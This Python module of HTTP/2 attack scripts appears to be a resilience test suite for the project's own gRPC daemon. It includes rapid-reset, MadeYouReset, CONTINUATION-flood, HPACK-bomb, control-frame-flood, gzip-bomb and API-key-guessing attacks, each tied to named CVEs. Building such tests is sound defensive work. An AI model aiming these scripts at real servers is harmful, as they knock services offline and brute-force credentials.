"""Attacks by many frames: resets, continuations, empty and control frames."""

import gzip
import struct

import http2
from hostile import READ, Attack, Room
from http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    WINDOW_MAX,
)

SMALL = http2.screen("0x00000000000000000000000000000000deadc0de")


def streams(per_chunk):
    """Yields stream numbers, so many at a time, until there are no more."""
    first = 1
    while first + 2 * per_chunk < WINDOW_MAX:
        yield range(first, first + 2 * per_chunk, 2)
        first += 2 * per_chunk


def rapid_reset(connection):
    yield http2.hello()
    for several in streams(200):
        yield b"".join(http2.call(http2.UNARY, SMALL, s) + http2.rst(s) for s in several)


def paced_reset(connection):
    """Lets the daemon take each call up before it is reset."""
    yield http2.hello()
    for several in streams(15):
        yield b"".join(http2.call(http2.UNARY, SMALL, s) for s in several)
        yield 0.001
        yield b"".join(http2.rst(s) for s in several)
        yield 0.005


def reset_batches(connection):
    """Has a thousand addresses screened for an answer that nobody takes."""
    batch = http2.screen_all([http2.LISTED_ADDRESS] * 1000)
    yield http2.hello()
    yield READ
    for several in streams(1):
        for stream in several:
            yield from sent_in_window(connection, http2.BATCH, batch, stream)
            yield 0.02
            yield http2.rst(stream)


def batch_flood(connection):
    """As many batches as the streams allow, again and again."""
    batch = http2.screen_all([http2.LISTED_ADDRESS] * 1000)
    yield http2.hello(initial_window=1 << 30) + http2.window_update(0, 1 << 30)
    yield READ
    for number, several in enumerate(streams(1)):
        for stream in several:
            yield from sent_in_window(connection, http2.BATCH, batch, stream)
            yield 0.02
            if number % 200 == 199:
                yield http2.window_update(0, 1 << 28)


def sent_in_window(connection, path, message, stream):
    """Sends a large call as the daemon's window allows."""
    size = len(message) + 5
    yield Room(size)
    connection.window -= size
    yield http2.call_parts(path, message, stream)


def provoked(illegal):
    """MadeYouReset: whole calls, each followed by what the daemon must reset."""

    def script(connection):
        yield http2.hello()
        for several in streams(100):
            yield b"".join(http2.call(http2.UNARY, SMALL, s) + illegal(s) for s in several)

    return script


def unfinished_and(illegal):
    """The same on calls whose body is still to come."""

    def script(connection):
        yield http2.hello()
        for several in streams(100):
            yield b"".join(http2.opened(http2.UNARY, s) + illegal(s) for s in several)

    return script


def wrong_keys(connection):
    """Guesses at keys: each is hashed before it is refused."""
    guess = ("authorization", "Bearer ik_" + "a" * 8 + "_" + "b" * 52)
    yield http2.hello()
    yield READ
    for several in streams(50):
        yield b"".join(http2.call(http2.UNARY, SMALL, s, [guess]) for s in several)
        yield 0.005


def continuations(payload):
    def script(connection):
        yield http2.hello()
        block = http2.request_headers(http2.UNARY)
        yield http2.frame(HEADERS, 0, 1, block)
        several = http2.frame(CONTINUATION, 0, 1, payload) * max(1, 65536 // (len(payload) + 9))
        while True:
            yield several

    return script


def hpack_bomb(connection):
    """One entry of 4,000 bytes, and sixteen thousand references to it."""
    yield http2.hello()
    for several in streams(1):
        for stream in several:
            block = http2.request_headers(http2.UNARY) + http2.inserted("x", "y" * 3900)
            block += http2.indexed(62) * (16384 - len(block))
            yield http2.frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def hpack_bomb_in_continuations(connection):
    yield http2.hello()
    for several in streams(1):
        for stream in several:
            block = http2.request_headers(http2.UNARY) + http2.inserted("x", "y" * 3900)
            yield http2.frame(HEADERS, 0, stream, block)
            yield http2.frame(CONTINUATION, 0, stream, http2.indexed(62) * 16384) * 4
            yield http2.frame(CONTINUATION, END_HEADERS, stream, b"")


def large_header_lists(connection):
    """48 KiB of headers a call, as continuation frames carry them."""
    fields = b"".join(http2.literal(f"x-{number}", "v" * 1000) for number in range(16))
    yield http2.hello()
    for several in streams(1):
        for stream in several:
            block = http2.request_headers(http2.UNARY) + fields[:16000]
            more = fields[:16000]
            yield (
                http2.frame(HEADERS, END_STREAM, stream, block[:16384])
                + http2.frame(CONTINUATION, 0, stream, block[16384:])
                + http2.frame(CONTINUATION, 0, stream, more)
                + http2.frame(CONTINUATION, END_HEADERS, stream, more)
            )


def large_headers_in_one_frame(connection):
    """Just over the limit, so that each is answered and none is an abuse."""
    fields = b"".join(http2.literal(f"x-{number}", "v" * 1000) for number in range(12))
    yield http2.hello()
    for several in streams(10):
        yield b"".join(
            http2.frame(
                HEADERS, END_HEADERS | END_STREAM, s, http2.request_headers(http2.UNARY) + fields
            )
            for s in several
        )


def repeated(one, per_second=100_000):
    """The same frame over and over, a hundred a time."""

    def script(connection):
        yield http2.hello()
        yield READ
        many = one * 100
        while True:
            yield many
            yield 100 / per_second

    return script


def empty_data(connection):
    yield http2.hello()
    yield http2.opened(http2.BATCH, 1)
    while True:
        yield http2.frame(DATA, 0, 1) * 1000


def tiny_data(connection):
    """A body in frames of one byte."""
    yield http2.hello()
    yield READ
    yield http2.opened(http2.BATCH, 1)
    yield http2.frame(DATA, 0, 1, struct.pack("!BL", 0, 1 << 20))
    while True:
        yield Room(1000)
        connection.window -= 1000
        yield http2.frame(DATA, 0, 1, b"\n") * 1000


def window_swings(connection):
    """Each SETTINGS changes the window of two hundred open streams."""
    yield http2.hello()
    yield b"".join(http2.opened(http2.BATCH, s) for s in range(1, 399, 2))
    swing = http2.settings(initial_window=0) + http2.settings(initial_window=WINDOW_MAX)
    while True:
        yield swing * 25
        yield 0.002


def open_streams(connection):
    """A hundred thousand calls that are never finished."""
    yield http2.hello()
    for several in streams(500):
        if several[0] > 200_000:
            return
        yield b"".join(http2.opened(http2.UNARY, s) for s in several)


def too_large(declared, real):
    """Messages that say they have `declared` bytes and have `real`."""

    def script(connection):
        yield http2.hello()
        yield READ
        body = http2.grpc(b"\n" * real, declared)
        for several in streams(1):
            for stream in several:
                yield http2.opened(http2.BATCH, stream)
                for at in range(0, len(body), 16384):
                    part = body[at : at + 16384]
                    yield Room(len(part))
                    connection.window -= len(part)
                    yield http2.frame(DATA, 0, stream, part)
                yield http2.frame(DATA, END_STREAM, stream)
                yield 0.01

    return script


def unasked_compression(connection):
    """A kibibyte that would be a mebibyte if the daemon inflated it."""
    body = http2.grpc(gzip.compress(b"\n" * (1 << 20)), compressed=1)
    yield http2.hello()
    for several in streams(10):
        yield b"".join(
            http2.opened(http2.BATCH, s, [("grpc-encoding", "gzip")])
            + http2.frame(DATA, END_STREAM, s, body)
            for s in several
        )
        yield 0.02


def _half_closed_data(s):
    return http2.frame(DATA, END_STREAM, s, b"more")


def _half_closed_headers(s):
    return http2.frame(HEADERS, END_HEADERS | END_STREAM, s, http2.literal("x", "y"))


def _self_dependent(s):
    return http2.frame(PRIORITY, 0, s, struct.pack("!LB", s, 15))


ATTACKS = [
    Attack("rapid-reset", "CVE-2023-44487: calls reset at once", rapid_reset),
    Attack("rapid-reset-paced", "calls reset a millisecond after they were taken up", paced_reset,
           expect="limited", connections=4),
    Attack("reset-batches", "batches of 1,000 listed addresses, reset after 20 ms",
           reset_batches, expect="limited", connections=4),
    Attack("batch-flood", "batches of 1,000 listed addresses, 50 a second each", batch_flood,
           expect="limited", connections=4),
    Attack("made-you-reset-overflow", "CVE-2025-8671: WINDOW_UPDATE over 2^31-1",
           provoked(lambda s: http2.window_update(s, WINDOW_MAX))),
    Attack("made-you-reset-zero", "CVE-2025-8671: WINDOW_UPDATE of zero",
           provoked(lambda s: http2.window_update(s, 0))),
    Attack("made-you-reset-priority-length", "CVE-2025-8671: PRIORITY of four bytes",
           provoked(lambda s: http2.frame(PRIORITY, 0, s, b"\0\0\0\0"))),
    Attack("made-you-reset-priority-self", "CVE-2025-8671: a stream that depends on itself",
           provoked(_self_dependent)),
    Attack("made-you-reset-headers", "CVE-2025-8671: HEADERS after the end of a request",
           provoked(_half_closed_headers)),
    Attack("made-you-reset-data", "CVE-2025-8671: DATA after the end of a request",
           provoked(_half_closed_data)),
    Attack("made-you-reset-open", "CVE-2025-8671: WINDOW_UPDATE over 2^31-1, bodies unsent",
           unfinished_and(lambda s: http2.window_update(s, WINDOW_MAX))),
    Attack("wrong-keys", "API keys that nobody has, 10,000 a second", wrong_keys,
           expect="limited"),
    Attack("continuation-flood", "CVE-2024-27316: CONTINUATION of 16 KiB without end",
           continuations(http2.literal("x", "y" * 16000))),
    Attack("continuation-flood-empty", "CVE-2024-27316: empty CONTINUATION without end",
           continuations(b"")),
    Attack("hpack-bomb", "16,000 references to a header of 4,000 bytes in one frame", hpack_bomb),
    Attack("hpack-bomb-continued", "65,000 references to it in five frames",
           hpack_bomb_in_continuations),
    Attack("header-list", "48 KiB of headers", large_header_lists),
    Attack("header-list-edge", "12 KiB of headers, without end", large_headers_in_one_frame),
    Attack("settings-flood", "CVE-2019-9515: SETTINGS, 100,000 a second",
           repeated(http2.settings(initial_window=65535))),
    Attack("ping-flood", "CVE-2019-9512: PING, 100,000 a second",
           repeated(http2.frame(PING, 0, 0, b"attacked"))),
    Attack("settings-swings", "SETTINGS that move the windows of 200 open calls, 25,000 a second",
           window_swings),
    Attack("window-update-flood", "WINDOW_UPDATE of one, 100,000 a second",
           repeated(http2.window_update(0, 1))),
    Attack("priority-flood", "PRIORITY of idle streams, 100,000 a second",
           repeated(http2.frame(PRIORITY, 0, 99, struct.pack("!LB", 0, 15)))),
    Attack("unknown-frames", "frames of a kind nobody knows, 100,000 a second",
           repeated(http2.frame(0xBE, 0, 0, b""))),
    Attack("empty-data-flood", "CVE-2019-9518: empty DATA without end", empty_data),
    Attack("tiny-data-flood", "a body in DATA of one byte each", tiny_data),
    Attack("open-streams", "100,000 calls never finished", open_streams),
    Attack("message-declared", "messages that declare 4 GiB", too_large(0xFFFFFFFF, 100),
           expect="limited"),
    Attack("message-real", "messages of 8 MiB", too_large(8 << 20, 8 << 20), expect="limited"),
    Attack("message-compressed", "gzip bombs of 1 MiB", unasked_compression, expect="limited"),
]  # fmt: skip
